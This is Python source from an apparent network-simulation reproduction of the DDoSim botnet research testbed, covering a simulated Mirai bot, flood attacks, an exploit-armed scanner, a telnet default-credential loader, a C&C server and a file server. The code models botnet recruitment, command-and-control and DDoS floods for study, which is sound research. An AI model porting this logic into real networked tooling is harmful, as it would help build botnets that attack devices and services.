                _parse_address(target_text),
                int(port_text),
                float(duration_text),
                stats=stats,
            )
        if span is not None:
            flood = _span_scoped_flood(ctx, flood, spans, span, stats)
        attack_processes.append(
            SimProcess(ctx.sim, flood, name=f"{ctx.process.name}-udpplain")
        )
        return
    if command == "SCAN":
        from repro.botnet.scanner import scan_loop

        try:
            config = json.loads(parts[1]) if len(parts) > 1 else {}
        except json.JSONDecodeError:
            return
        attack_processes.append(
            SimProcess(ctx.sim, scan_loop(ctx, config), name="mirai-scanner")
        )
        return
    if command == "STOP":
        for process in attack_processes:
            if not process.done:
                process.kill()
        attack_processes.clear()


register_program("mirai", mirai_program)


def make_mirai_binary(architecture: str = "x86_64") -> BinaryImage:
    """The Mirai bot binary for one architecture (a Buildx output)."""
    return BinaryImage(
        name="mirai",
        version="1.0",
        program_key="mirai",
        architecture=architecture,
        protections=(),
        build_seed=0x31A1,
        file_size=60 * 1024,
        rss_bytes=1 * 1024 * 1024,
        vulnerable=False,
    )
