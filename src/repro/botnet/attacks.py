"""Mirai's flood attacks.

UDP-PLAIN ("udpplain") is the one the paper uses: "Mirai's volumetric
UDP-PLAIN flood attacks, a botnet DDoS attack supported by Mirai to flood
a target with UDP packets" (§III-C).  Mirai's udpplain is its
highest-PPS UDP flood (minimal per-packet work, one connected socket);
here each bot paces packet emission at its access-link rate — sending any
faster only overflows its own queue, which the link would drop anyway.

SYN and ACK floods are included for completeness (Mirai supports ~10
attack vectors); they craft raw TCP segments and are exercised by the
extension tests and the detection use case.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.netsim.address import Address, Ipv4Address
from repro.netsim.headers import (
    PROTO_TCP,
    TCP_ACK,
    TCP_SYN,
    Ipv4Header,
    Ipv6Header,
    TcpHeader,
    UdpHeader,
)
from repro.netsim.node import Node
from repro.netsim.packet import Packet

#: Mirai's default UDP payload size for udpplain (bytes)
DEFAULT_PAYLOAD_SIZE = 512

#: wire overhead per IPv6 flood datagram (UDP 8 B + IPv6 40 B); kept for
#: callers that size buffers, but pacing derives the overhead from the
#: target's actual address family via :func:`_udp_wire_overhead`
UDP_IPV6_OVERHEAD = UdpHeader.wire_size + Ipv6Header.wire_size


def _ip_wire_size(target: Address) -> int:
    """IP header bytes for the target's address family."""
    if isinstance(target, Ipv4Address):
        return Ipv4Header.wire_size
    return Ipv6Header.wire_size


def _udp_wire_overhead(target: Address) -> int:
    """UDP + IP header bytes per datagram toward ``target``; pacing uses
    the *wire* size so a bot's emission exactly fills its access link
    instead of slowly overflowing its own queue."""
    return UdpHeader.wire_size + _ip_wire_size(target)


@dataclass
class AttackStats:
    """What one bot's flood actually emitted."""

    packets_sent: int = 0
    bytes_sent: int = 0
    started_at: float = 0.0
    finished_at: float = 0.0

    @property
    def duration(self) -> float:
        return self.finished_at - self.started_at


def _device_rate_bps(node: Node, fallback: float = 250_000.0) -> float:
    device = node.ip.default_device
    rate = getattr(device, "data_rate_bps", None)
    return float(rate) if rate else fallback


def udp_plain_flood(
    node: Node,
    target: Address,
    target_port: int,
    duration: float,
    payload_size: int = DEFAULT_PAYLOAD_SIZE,
    rate_bps: Optional[float] = None,
    stats: Optional[AttackStats] = None,
    src_port: Optional[int] = None,
    train: int = 1,
    span: Optional[str] = None,
):
    """Generator: flood ``target`` with UDP junk for ``duration`` seconds.

    ``span`` (a causal span ID) is stamped onto every emitted packet so
    queues and the sink attribute drops/deliveries back to this train.

    Packets carry a virtual payload (size only, no bytes) — the flood's
    effect is entirely in its wire footprint.  The emission rate defaults
    to the bot's own access-link rate (its uplink is the binding
    constraint for 100-500 kbps IoT devices).

    ``train`` > 1 batches emission: each wakeup sends one
    :class:`~repro.netsim.packet.PacketTrain` of ``train`` packets and
    sleeps ``train`` intervals, cutting scheduler events per packet by
    ~the train size at the same paced wire rate.  ``train=1`` is the
    exact per-packet path.
    """
    from repro.netsim.process import Timeout

    if stats is None:
        stats = AttackStats()
    if train < 1:
        raise ValueError("train size must be >= 1")
    rate = rate_bps if rate_bps is not None else _device_rate_bps(node)
    wire_size = payload_size + _udp_wire_overhead(target)
    interval = wire_size * 8.0 / rate
    sim = node.sim
    udp = node.udp
    sport = src_port if src_port is not None else udp.allocate_ephemeral_port()
    stats.started_at = sim.now
    deadline = sim.now + duration
    if train == 1:
        while sim.now < deadline:
            udp.send_datagram(
                None, target, target_port, src_port=sport,
                payload_size=payload_size, span=span,
            )
            stats.packets_sent += 1
            stats.bytes_sent += wire_size  # wire bytes, comparable to the sink's
            yield Timeout(sim, interval)
    else:
        wakeup = interval * train
        while sim.now < deadline:
            udp.send_train(
                target, target_port, train, src_port=sport,
                payload_size=payload_size, span=span,
            )
            stats.packets_sent += train
            stats.bytes_sent += wire_size * train
            yield Timeout(sim, wakeup)
    stats.finished_at = sim.now
    return stats


def udp_plain_flow(
    node: Node,
    target: Address,
    target_port: int,
    duration: float,
    payload_size: int = DEFAULT_PAYLOAD_SIZE,
    rate_bps: Optional[float] = None,
    stats: Optional[AttackStats] = None,
    src_port: Optional[int] = None,
    span: Optional[str] = None,
):
    """Generator: the fluid-flow udpplain datapath.

    Same contract as :func:`udp_plain_flood`, but instead of scheduling
    one event per packet (or train), the whole steady flood becomes one
    :class:`~repro.netsim.flows.FluidFlow` on the simulator's
    :class:`~repro.netsim.flows.FlowEngine` — the generator sleeps for
    the full duration while the engine integrates the flow analytically,
    then closes the flow and reads its offered totals back into
    ``stats``.  Requires an active engine (``sim.flows``).
    """
    from repro.netsim.process import Timeout

    if stats is None:
        stats = AttackStats()
    engine = node.sim.flows
    if engine is None:
        raise RuntimeError(
            "udp_plain_flow needs a FlowEngine (sim.flows); "
            "use udp_plain_flood when the fluid datapath is off"
        )
    rate = rate_bps if rate_bps is not None else _device_rate_bps(node)
    wire_size = payload_size + _udp_wire_overhead(target)
    sim = node.sim
    sport = (src_port if src_port is not None
             else node.udp.allocate_ephemeral_port())
    stats.started_at = sim.now
    flow = engine.start_flow(
        node, target, target_port, sport, rate, payload_size, wire_size,
        span=span,
    )
    try:
        yield Timeout(sim, duration)
    finally:
        # Runs on normal completion and on process kill (churn death):
        # either way the flow stops at the current instant and the
        # offered volume so far becomes the bot's emission stats.
        engine.stop_flow(flow)
        stats.finished_at = sim.now
        stats.packets_sent = flow.offered_packets
        stats.bytes_sent = flow.offered_packets * wire_size
    return stats


def syn_flood(
    node: Node,
    target: Address,
    target_port: int,
    duration: float,
    rate_bps: Optional[float] = None,
    stats: Optional[AttackStats] = None,
):
    """Generator: raw SYN flood (40-byte segments, rotating source ports)."""
    return (yield from _tcp_flag_flood(
        node, target, target_port, duration, TCP_SYN, rate_bps, stats
    ))


def ack_flood(
    node: Node,
    target: Address,
    target_port: int,
    duration: float,
    rate_bps: Optional[float] = None,
    stats: Optional[AttackStats] = None,
):
    """Generator: raw ACK flood."""
    return (yield from _tcp_flag_flood(
        node, target, target_port, duration, TCP_ACK, rate_bps, stats
    ))


def _tcp_flag_flood(node, target, target_port, duration, flags, rate_bps, stats):
    from repro.netsim.process import Timeout

    if stats is None:
        stats = AttackStats()
    rate = rate_bps if rate_bps is not None else _device_rate_bps(node)
    segment_size = TcpHeader.wire_size + _ip_wire_size(target)
    interval = max(segment_size * 8.0 / rate, 1e-4)
    sim = node.sim
    stats.started_at = sim.now
    deadline = sim.now + duration
    sport = 1024
    seq = 0
    while sim.now < deadline:
        packet = Packet(created_at=sim.now)
        packet.add_header(TcpHeader(sport, target_port, seq=seq, flags=flags))
        node.ip.send(packet, target, PROTO_TCP)
        stats.packets_sent += 1
        stats.bytes_sent += segment_size
        sport = 1024 + (sport - 1023) % 60000
        seq += 1
        yield Timeout(sim, interval)
    stats.finished_at = sim.now
    return stats
