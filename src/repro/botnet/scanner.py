"""Mirai self-propagation: exploit-armed scanning.

The paper's §V-A2 use case runs DDoSim to test epidemic models of botnet
spread ("researchers can ... extract the number of infected devices in
Devs at any time step").  For spread there must be bot-to-bot
propagation, so — in the spirit of exploit-carrying IoT worms — each bot
can be ordered to scan the address pool and fire the *same* memory-error
exploit chain the Attacker used (probe -> leak -> RELAYFORW ROP against
dnsmasq Devs).

Scan configuration arrives from the C&C as JSON::

    {
      "pool_prefix": "2001:db8:0:1::",     # /64 the Devs live in (zero-host)
      "first": 1, "last": 200,              # interface-id sweep range
      "probes_per_second": 2.0,
      "target_binary": { ... BinaryImage metadata ... },
      "urls": {"host": "...", "port": 80}
    }

Epidemiologically this yields a contact process with per-bot rate
``probes_per_second * (vulnerable_hosts / pool_size)`` — what
:mod:`repro.analysis.epidemic` fits its SIR model against.
"""

from __future__ import annotations

import json
from typing import Optional

from repro.binaries.binfmt import BinaryImage
from repro.netsim.address import Ipv6Address
from repro.netsim.process import AnyOf, Timeout
from repro.services import dhcp6
from repro.services.exploits import ExploitKit, InfectionUrls, parse_leaked_pointer

PROBE_TIMEOUT = 2.0


def scan_config_json(
    pool_prefix: str,
    first: int,
    last: int,
    target_binary: BinaryImage,
    file_server_host: str,
    file_server_port: int = 80,
    probes_per_second: float = 2.0,
) -> str:
    """Build the C&C ``SCAN`` order payload."""
    return json.dumps(
        {
            "pool_prefix": pool_prefix,
            "first": first,
            "last": last,
            "probes_per_second": probes_per_second,
            "target_binary": target_binary.metadata_dict(),
            "urls": {"host": file_server_host, "port": file_server_port},
        }
    )


def _binary_from_config(metadata: dict) -> BinaryImage:
    return BinaryImage.from_metadata(metadata)


def scan_loop(ctx, config: dict):
    """Generator: endless random scan over the configured pool."""
    try:
        prefix = config["pool_prefix"]
        first = int(config["first"])
        last = int(config["last"])
        rate = float(config.get("probes_per_second", 2.0))
        target = _binary_from_config(config["target_binary"])
        urls = InfectionUrls(
            file_server_host=config["urls"]["host"],
            file_server_port=int(config["urls"].get("port", 80)),
        )
    except (KeyError, TypeError, ValueError) as error:
        ctx.log(f"mirai-scanner: bad config: {error}")
        return
    kit = ExploitKit(target, urls)
    # pool_prefix is the zero-host textual form, e.g. "2001:db8:0:1::".
    base = Ipv6Address.parse(prefix).value
    interval = 1.0 / max(rate, 1e-6)
    sock = ctx.netns.udp_socket()
    my_address = ctx.netns.address()
    try:
        while True:
            yield Timeout(ctx.sim, interval)
            iid = ctx.rng.randint(first, last)
            victim = Ipv6Address(base | iid)
            if victim == my_address:
                continue
            yield from probe_and_exploit(ctx, sock, victim, kit)
    finally:
        sock.close()


def probe_and_exploit(ctx, sock, victim, kit: ExploitKit):
    """Generator: one probe -> leak -> exploit cycle against ``victim``.

    Returns True when the exploit was fired (not necessarily landed —
    the scanner cannot observe the victim's fate directly).
    """
    spans = ctx.sim.obs.spans
    probe_span = None
    if spans.enabled:
        probe_span = spans.start(
            "scan.probe", ctx.sim.now, entity=str(victim), vector="dhcp6",
            scanner=str(ctx.netns.address()),
        )
    probe = dhcp6.Dhcp6Message(dhcp6.MSG_INFORMATION_REQUEST, transaction_id=0x51)
    sock.sendto(probe.encode(), victim, dhcp6.SERVER_PORT)
    # Wait for a reply *from this victim*: a stale reply from an earlier
    # probe must not be mistaken for the current victim's leak — with
    # ASLR a wrong slide crashes the daemon instead of recruiting it.
    deadline = ctx.sim.now + PROBE_TIMEOUT
    payload = None
    while True:
        remaining = deadline - ctx.sim.now
        if remaining <= 0:
            spans.end(probe_span, ctx.sim.now, status="timeout")
            return False  # nothing there (or already infected, daemon gone)
        response = yield from _receive_with_timeout(ctx, sock, remaining)
        if response is None:
            spans.end(probe_span, ctx.sim.now, status="timeout")
            return False
        candidate_payload, (source, _port) = response
        if source == victim:
            payload = candidate_payload
            break
    leaked = _leak_from_reply(payload)
    slide = kit.slide_for_victim(leaked)
    if slide is None:
        spans.end(probe_span, ctx.sim.now, status="no_slide")
        return False
    spans.end(probe_span, ctx.sim.now, status="leaked")
    exploit = dhcp6.make_relay_forw(
        kit.rop_payload(slide), link=victim, peer=victim
    )
    sock.sendto(exploit.encode(), victim, dhcp6.SERVER_PORT)
    if probe_span is not None:
        exploit_span = spans.start(
            "exploit", ctx.sim.now, entity=str(victim), parent=probe_span,
            vector="dhcp6", slide=slide, program=kit.target.program_key,
        )
        spans.end(exploit_span, ctx.sim.now, status="sent")
        # The victim's hijack report parents its outcome under this.
        spans.bind(("exploit", str(victim)), exploit_span)
    return True


def _receive_with_timeout(ctx, sock, timeout: float):
    """Generator: recvfrom with a deadline; None on timeout."""
    receive = sock.recvfrom()
    timer = Timeout(ctx.sim, timeout)
    winner = yield AnyOf(ctx.sim, [receive, timer])
    if winner is timer:
        sock.cancel_waiter(receive)
        return None
    timer.cancel()
    return winner.value


def _leak_from_reply(payload: Optional[bytes]) -> Optional[int]:
    if payload is None:
        return None
    try:
        message = dhcp6.Dhcp6Message.decode(payload)
    except dhcp6.Dhcp6DecodeError:
        return None
    status = message.option(dhcp6.OPTION_STATUS_CODE)
    if status is None:
        return None
    return parse_leaked_pointer(status.data)
