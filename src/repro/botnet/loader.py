"""The Mirai loader: dictionary-attack recruitment over telnet.

This is the *baseline* recruitment vector the paper contrasts with its
memory-error exploits ("the Mirai attack leveraged similar default
credentials to access and compromise IoT devices", §IV-C).  The loader
sweeps the device address pool, tries the classic factory-credential
dictionary against each telnet service, and — on a successful login —
types the same infection one-liner the ROP chain would have executed.

Comparing this vector against the memory-error one inside the same
testbed quantifies the paper's motivation: credential hygiene laws
(§I's "recent legislative measures") shrink the credential attack
surface, while memory-error recruitment still reaches everything running
a vulnerable parser.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from repro.binaries.logind import DEFAULT_CREDENTIALS, TELNET_PORT
from repro.netsim.address import Ipv6Address
from repro.netsim.process import ProcessKilled, Timeout


@dataclass
class LoaderStats:
    """What the dictionary sweep achieved."""

    hosts_probed: int = 0
    hosts_with_telnet: int = 0
    logins_succeeded: int = 0
    logins_failed: int = 0
    infections_typed: int = 0
    compromised_addresses: List[object] = field(default_factory=list)


class _Session:
    """Buffered reader over a telnet socket (prompts are not line-based)."""

    def __init__(self, sock):
        self.sock = sock
        self.buffer = b""
        self.closed = False

    def read_until(self, *tokens: bytes):
        """Generator: read until one of ``tokens`` appears; returns the
        token found (earliest in the stream) or None on EOF.  Consumes
        through the end of the found token."""
        while True:
            found = None
            found_at = None
            for token in tokens:
                index = self.buffer.find(token)
                if index >= 0 and (found_at is None or index < found_at):
                    found, found_at = token, index
            if found is not None:
                self.buffer = self.buffer[found_at + len(found):]
                return found
            try:
                chunk = yield self.sock.recv()
            except ConnectionError:
                self.closed = True
                return None
            if chunk == b"":
                self.closed = True
                return None
            self.buffer += chunk


def telnet_loader_program(
    pool_base: int,
    first_iid: int,
    last_iid: int,
    infection_command: str,
    stats: LoaderStats,
    credentials: Sequence[Tuple[str, str]] = DEFAULT_CREDENTIALS,
    self_iid: Optional[int] = None,
    sweep_interval: float = 0.2,
):
    """Build the loader ``program(ctx)``: one sweep over the pool."""

    def loader(ctx):
        try:
            for iid in range(first_iid, last_iid + 1):
                if iid == self_iid:
                    continue
                victim = Ipv6Address(pool_base | iid)
                stats.hosts_probed += 1
                yield from _attack_host(
                    ctx, victim, infection_command, credentials, stats
                )
                yield Timeout(ctx.sim, sweep_interval)
        except ProcessKilled:
            raise

    return loader


def _attack_host(ctx, victim, infection_command, credentials, stats):
    """Generator: dictionary attack against one host's telnet service.

    IoT telnet daemons drop the connection after a few failed attempts;
    like the real Mirai loader, we reconnect and keep walking the
    dictionary until it is exhausted or a login lands.
    """
    sock = None
    session = None
    first_connection = True
    index = 0
    reconnects_left = len(credentials) + 2
    spans = ctx.sim.obs.spans
    span = None
    if spans.enabled:
        span = spans.start("loader.attempt", ctx.sim.now, entity=str(victim),
                           loader=ctx.container.name)
    try:
        while index < len(credentials):
            if session is None or session.closed:
                if reconnects_left <= 0:
                    return
                reconnects_left -= 1
                if sock is not None:
                    sock.close()
                sock = ctx.netns.tcp_connect(victim, TELNET_PORT)
                try:
                    yield sock.wait_connected()
                except ConnectionError:
                    return  # no telnet (or host down): move on
                if first_connection:
                    stats.hosts_with_telnet += 1
                    first_connection = False
                session = _Session(sock)
            username, password = credentials[index]
            # A dead session mid-handshake means we never actually tried
            # this credential: reconnect and retry the SAME index.
            if (yield from session.read_until(b"login: ")) is None:
                continue
            sock.send_line(username)
            if (yield from session.read_until(b"password: ")) is None:
                continue
            sock.send_line(password)
            verdict = yield from session.read_until(b"$ ", b"Login incorrect")
            if verdict == b"$ ":
                stats.logins_succeeded += 1
                sock.send_line(infection_command)
                stats.infections_typed += 1
                stats.compromised_addresses.append(victim)
                if span is not None:
                    spans.end(span, ctx.sim.now, status="infected",
                              attempts=index + 1)
                    # The C&C's recruit span parents under the infection.
                    spans.bind(("recruit", str(victim)), span)
                    span = None
                # Wait for the shell to come back, then leave politely.
                yield from session.read_until(b"$ ")
                sock.send_line("exit")
                return
            if verdict is None:
                continue  # dropped before a verdict: retry this credential
            stats.logins_failed += 1  # definitive "Login incorrect"
            index += 1
    except ConnectionError:
        return
    finally:
        if span is not None:
            spans.end(span, ctx.sim.now, status="failed")
        if sock is not None:
            sock.close()
