"""The Mirai C&C server.

The paper uses "C&C Server provided with Mirai's published code" and
drives it over telnet: "we can access C&C Server from a terminal via
telnet to monitor the connected bots and instruct them to perform a
botnet DDoS attack against TServer" (§III-A).

Protocol (line-oriented over TCP):

* bot -> cnc: ``REG <arch>`` on connect, ``PONG`` keepalives;
* cnc -> bot: ``PING`` keepalives, ``ATTACK udpplain <target> <port>
  <duration> <payload_size>``, ``SCAN <json>`` (self-propagation config),
  ``STOP``.

Operator console commands (via :class:`repro.services.telnet.TelnetServer`):
``bots``, ``udpplain <target> <port> <duration> [payload]``, ``scan
<json>``, ``status``.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass
from typing import Dict, List, Optional

from repro.netsim.process import ProcessKilled, SimFuture, SimProcess
from repro.netsim.sockets import TcpSocket

#: Mirai's bots report to the C&C on TCP 23 (the published code's default)
BOT_PORT = 23
ADMIN_PORT = 2323
PING_INTERVAL = 30.0


@dataclass
class BotRecord:
    """One connected bot as the C&C sees it."""

    bot_id: int
    address: object
    architecture: str
    connected_at: float
    socket: TcpSocket
    alive: bool = True
    last_seen: float = 0.0
    commands_sent: int = 0


@dataclass
class AttackOrder:
    """One attack command broadcast to the botnet."""

    method: str
    target: str
    port: int
    duration: float
    payload_size: int
    issued_at: float
    bots_commanded: int


class CncServer:
    """Bot registry + command fan-out + operator console backend."""

    def __init__(self, bot_port: int = BOT_PORT):
        self.bot_port = bot_port
        self.bots: Dict[int, BotRecord] = {}
        self._bot_ids = itertools.count(1)
        self.attack_orders: List[AttackOrder] = []
        self.total_registrations = 0
        #: distinct bot source addresses ever registered (reconnects after
        #: churn do not double-count as new recruits)
        self.seen_addresses = set()
        self.first_registration_time: Optional[float] = None
        self.last_registration_time: Optional[float] = None
        #: registration timestamps of *new* (distinct) bots — this is the
        #: infection curve the epidemic use case reads out
        self.registration_times: List[float] = []
        #: orders replayed to every newly registering bot (SCAN is a
        #: standing order — propagation must reach late joiners; ATTACK is
        #: deliberately not, matching the paper's missed-command effect)
        self.standing_orders: List[str] = []
        self._bot_count_waiters: List[tuple] = []  # (threshold, future)
        self._sim = None

    # ------------------------------------------------------------------
    # Bot-facing server
    # ------------------------------------------------------------------
    def program(self):
        """Program factory for the C&C daemon in the attacker container."""

        def cnc(ctx):
            self._sim = ctx.sim
            server = ctx.netns.tcp_listen(self.bot_port)
            ctx.bind_port_marker(self.bot_port)
            ctx.log(f"cnc: listening for bots on :{self.bot_port}")

            def keepalive(loop_ctx):
                # Periodic PINGs double as dead-peer detection: sending on
                # a broken connection eventually exhausts retransmission
                # and tears the session down, reaping the bot record.
                while True:
                    yield loop_ctx.sleep(PING_INTERVAL)
                    self.broadcast("PING")

            pinger = SimProcess(ctx.sim, keepalive(ctx), name="cnc-keepalive")
            # Live per-bot session processes; killed with the daemon so a
            # C&C outage actually drops every bot (they see the FIN and
            # enter their reconnect loops) instead of leaving orphaned
            # sessions serving a dead server.
            sessions = set()
            try:
                while True:
                    sock = yield server.accept()
                    session = SimProcess(
                        ctx.sim, self._bot_session(ctx, sock), name="cnc-bot"
                    )
                    sessions.add(session)
                    session.add_callback(lambda _s, s=session: sessions.discard(s))
            except ProcessKilled:
                raise
            finally:
                pinger.kill()
                for session in list(sessions):
                    if not session.done:
                        session.kill()
                ctx.release_port_marker(self.bot_port)
                server.close()

        return cnc

    def _bot_session(self, ctx, sock: TcpSocket):
        record: Optional[BotRecord] = None
        try:
            line = yield from sock.read_line()
            if line is None:
                return
            parts = line.decode("utf-8", "replace").split()
            if not parts or parts[0] != "REG":
                sock.close()
                return
            architecture = parts[1] if len(parts) > 1 else "unknown"
            record = BotRecord(
                bot_id=next(self._bot_ids),
                address=sock.peer[0],
                architecture=architecture,
                connected_at=ctx.sim.now,
                socket=sock,
                last_seen=ctx.sim.now,
            )
            self.bots[record.bot_id] = record
            self.total_registrations += 1
            obs = ctx.sim.obs
            obs.metrics.counter(
                "cnc_registrations_total",
                help="bot registrations (reconnects included)",
            ).inc()
            if record.address not in self.seen_addresses:
                self.seen_addresses.add(record.address)
                self.registration_times.append(ctx.sim.now)
                obs.metrics.counter(
                    "cnc_recruits_total", help="distinct bots ever recruited"
                ).inc()
                if obs.tracer.enabled:
                    obs.tracer.emit(
                        "cnc.recruit", ctx.sim.now,
                        bot_id=record.bot_id, address=str(record.address),
                        architecture=architecture,
                    )
                spans = obs.spans
                if spans.enabled:
                    address = str(record.address)
                    # Parent: the successful hijack (or loader infection)
                    # that planted this bot, when span tracking saw it.
                    span = spans.start(
                        "cnc.recruit", ctx.sim.now, entity=address,
                        parent=spans.lookup(("recruit", address)),
                        bot_id=record.bot_id, architecture=architecture,
                    )
                    spans.end(span, ctx.sim.now)
                    # The bot's attack trains cross-link through this.
                    spans.bind(("bot", address), span)
            if self.first_registration_time is None:
                self.first_registration_time = ctx.sim.now
            self.last_registration_time = ctx.sim.now
            for order in self.standing_orders:
                sock.send_line(order)
            ctx.log(f"cnc: bot #{record.bot_id} from {record.address} ({architecture})")
            self._notify_bot_count()
            while True:
                try:
                    line = yield from sock.read_line()
                except ConnectionError:
                    return  # dead peer detected by keepalive traffic
                if line is None:
                    return
                record.last_seen = ctx.sim.now
                # Bots only ever send PONG after registration.
        finally:
            if record is not None:
                record.alive = False
                self.bots.pop(record.bot_id, None)
            sock.close()

    # ------------------------------------------------------------------
    # Command fan-out
    # ------------------------------------------------------------------
    def checkpoint_state(self) -> dict:
        """Deterministic registry/command state for checkpoint
        fingerprints (bot IDs are instance-local and reproducible)."""
        return {
            "registrations": self.total_registrations,
            "seen": sorted(str(address) for address in self.seen_addresses),
            "registration_times": list(self.registration_times),
            "first": self.first_registration_time,
            "last": self.last_registration_time,
            "bots": [
                [bot_id, str(record.address), record.architecture,
                 record.connected_at, record.last_seen,
                 record.commands_sent, record.alive]
                for bot_id, record in sorted(self.bots.items())
            ],
            "orders": [
                [order.method, order.target, order.port, order.duration,
                 order.payload_size, order.issued_at, order.bots_commanded]
                for order in self.attack_orders
            ],
            "standing": list(self.standing_orders),
            "waiters": sorted(
                threshold for threshold, _future in self._bot_count_waiters
            ),
        }

    def connected_bots(self) -> List[BotRecord]:
        return [record for record in self.bots.values() if record.alive]

    def bot_count(self) -> int:
        return len(self.connected_bots())

    def wait_for_bots(self, threshold: int) -> SimFuture:
        """Future resolving once >= ``threshold`` bots are connected."""
        if self._sim is None:
            raise RuntimeError("C&C server has not started yet")
        future = SimFuture(self._sim)
        if self.bot_count() >= threshold:
            future.succeed(self.bot_count())
        else:
            self._bot_count_waiters.append((threshold, future))
        return future

    def _notify_bot_count(self) -> None:
        count = self.bot_count()
        remaining = []
        for threshold, future in self._bot_count_waiters:
            if count >= threshold and not future.done:
                future.succeed(count)
            elif not future.done:
                remaining.append((threshold, future))
        self._bot_count_waiters = remaining

    def broadcast(self, line: str) -> int:
        """Send a raw command line to every connected bot.

        A send failure is definitive dead-peer evidence, so the record is
        pruned immediately (and bot-count waiters re-notified) rather
        than lingering in the table until the session reaps it.
        """
        sent = 0
        pruned = False
        for record in self.connected_bots():
            try:
                record.socket.send_line(line)
                record.commands_sent += 1
                sent += 1
            except ConnectionError:
                self._prune(record)
                pruned = True
        if pruned:
            self._notify_bot_count()
        return sent

    def _prune(self, record: BotRecord) -> None:
        """Drop a dead peer's record from the bot table."""
        record.alive = False
        self.bots.pop(record.bot_id, None)
        if self._sim is not None:
            obs = self._sim.obs
            obs.metrics.counter(
                "cnc_bot_prunes_total",
                help="bot records pruned on send failure",
            ).inc()
            if obs.tracer.enabled:
                obs.tracer.emit(
                    "cnc.prune", self._sim.now,
                    bot_id=record.bot_id, address=str(record.address),
                )

    def issue_attack(
        self,
        target: str,
        port: int,
        duration: float,
        payload_size: int = 512,
        method: str = "udpplain",
        train: int = 1,
        flow: str = "off",
    ) -> AttackOrder:
        """Broadcast an attack order; returns the recorded order.

        ``train`` > 1 is appended as an optional sixth argument (older
        bots that only parse five simply flood unbatched).  ``flow``
        other than "off" selects the fluid datapath and rides as a
        seventh argument — the train slot is then always emitted so the
        positions stay fixed; with ``flow == "off"`` the wire format
        (and hence the simulated TCP byte stream) is exactly the
        pre-fluid one.
        """
        line = f"ATTACK {method} {target} {port} {duration:g} {payload_size}"
        if flow != "off":
            line = f"{line} {train} {flow}"
        elif train > 1:
            line = f"{line} {train}"
        sent = self.broadcast(line)
        if self._sim is not None:
            obs = self._sim.obs
            obs.metrics.counter(
                "cnc_attack_orders_total", help="attack orders broadcast"
            ).inc()
            if obs.tracer.enabled:
                obs.tracer.emit(
                    "cnc.attack", self._sim.now,
                    method=method, target=target, port=port,
                    duration=duration, bots=sent,
                )
            spans = obs.spans
            if spans.enabled:
                span = spans.start(
                    "cnc.command", self._sim.now, entity=method,
                    target=target, port=port, duration=duration, bots=sent,
                )
                spans.end(span, self._sim.now)
                # Each commanded bot parents its attack.train under this
                # order (matched by the exact broadcast arguments).
                spans.bind(("attack-order", method, target, str(port)), span)
        order = AttackOrder(
            method=method,
            target=target,
            port=port,
            duration=duration,
            payload_size=payload_size,
            issued_at=self._sim.now if self._sim is not None else 0.0,
            bots_commanded=sent,
        )
        self.attack_orders.append(order)
        return order

    def issue_scan(self, config_json: str) -> int:
        """Broadcast a self-propagation scan order (epidemic use case).

        Recorded as a standing order so bots recruited later also scan.
        """
        line = f"SCAN {config_json}"
        self.standing_orders.append(line)
        return self.broadcast(line)

    # ------------------------------------------------------------------
    # Operator console handler (plugs into TelnetServer)
    # ------------------------------------------------------------------
    def console_handler(self, line: str) -> str:
        parts = line.split()
        if not parts:
            return ""
        command = parts[0].lower()
        if command == "bots":
            records = self.connected_bots()
            lines = [f"{len(records)} bots connected"]
            lines.extend(
                f"  #{record.bot_id} {record.address} {record.architecture}"
                for record in records
            )
            return "\n".join(lines)
        if command == "status":
            return (
                f"bots={self.bot_count()} registrations={self.total_registrations} "
                f"attacks={len(self.attack_orders)}"
            )
        if command in ("udpplain", "syn", "ack"):
            if len(parts) < 4:
                return f"usage: {command} <target> <port> <duration> [payload]"
            payload = int(parts[4]) if len(parts) > 4 else 512
            order = self.issue_attack(
                parts[1], int(parts[2]), float(parts[3]), payload, method=command
            )
            return f"attack sent to {order.bots_commanded} bots"
        if command == "scan":
            sent = self.issue_scan(line.partition(" ")[2])
            return f"scan order sent to {sent} bots"
        return f"unknown command: {command}"
