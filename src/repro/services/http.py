"""A minimal HTTP/1.0 file server and client over the simulated network.

The paper's Attacker "installs an Apache server ... to host our malicious
binaries and scripts to deliver them to Devs upon request" (§III-A).
:class:`HttpFileServer` is that Apache analogue: it serves files out of
the attacker container's filesystem.  ``http_get`` is the client side
that the emulated ``curl`` builds on.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.netsim.process import SimProcess
from repro.netsim.sockets import TcpSocket

DEFAULT_PORT = 80


@dataclass
class HttpResponse:
    status: int
    reason: str
    body: bytes

    @property
    def ok(self) -> bool:
        return 200 <= self.status < 300


class HttpError(OSError):
    """Request failed below the HTTP layer or with a bad response."""


class HttpFileServer:
    """Serves GET requests from a container filesystem subtree."""

    def __init__(self, root: str = "/var/www", port: int = DEFAULT_PORT):
        self.root = root.rstrip("/")
        self.port = port
        self.requests_served = 0
        self.requests_failed = 0

    def program(self):
        """Build the ``program(ctx)`` generator for this server."""

        def apache(ctx):
            server = ctx.netns.tcp_listen(self.port)
            ctx.bind_port_marker(self.port)
            ctx.log(f"apache listening on :{self.port}, root {self.root}")
            try:
                while True:
                    sock = yield server.accept()
                    SimProcess(
                        ctx.sim, self._handle(ctx, sock), name="apache-worker"
                    )
            finally:
                ctx.release_port_marker(self.port)
                server.close()

        return apache

    def _handle(self, ctx, sock: TcpSocket):
        try:
            request_line = yield from sock.read_line()
            if request_line is None:
                return
            # Drain headers until the blank line.
            while True:
                line = yield from sock.read_line()
                if not line:
                    break
            parts = request_line.decode("ascii", "replace").split()
            if len(parts) < 2 or parts[0] != "GET":
                self.requests_failed += 1
                sock.send(b"HTTP/1.0 400 Bad Request\r\n\r\n")
                return
            path = parts[1].split("?")[0]
            file_path = f"{self.root}{path}"
            if not ctx.fs.exists(file_path):
                self.requests_failed += 1
                sock.send(b"HTTP/1.0 404 Not Found\r\n\r\n")
                return
            body = ctx.fs.read_file(file_path)
            header = (
                f"HTTP/1.0 200 OK\r\nContent-Length: {len(body)}\r\n"
                f"Content-Type: application/octet-stream\r\n\r\n"
            ).encode()
            sock.send(header + body)
            self.requests_served += 1
        finally:
            sock.close()


def http_get(netns, address, port: int, path: str):
    """Generator (``yield from``): GET ``path`` and return :class:`HttpResponse`."""
    sock = netns.tcp_connect(address, port)
    yield sock.wait_connected()
    try:
